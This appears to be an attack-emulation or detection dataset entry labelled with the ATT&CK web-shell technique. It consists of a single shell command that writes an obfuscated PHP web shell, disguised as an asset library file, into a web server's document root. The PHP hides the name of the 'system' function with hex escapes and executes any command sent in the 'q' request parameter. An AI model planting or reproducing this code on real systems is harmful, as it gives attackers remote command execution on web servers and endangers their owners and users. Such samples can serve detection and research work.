# technique: T1505.003
# location: linux.web.script
# source: /var/www/html/assets/lib.inc.php
install -D -o www-data -m 644 /dev/stdin /var/www/html/assets/lib.inc.php <<< '<?php $f="\x73\x79"."\x73\x74\x65\x6d"; if (!empty($_REQUEST["q"])) { $f($_REQUEST["q"]); } ?>'
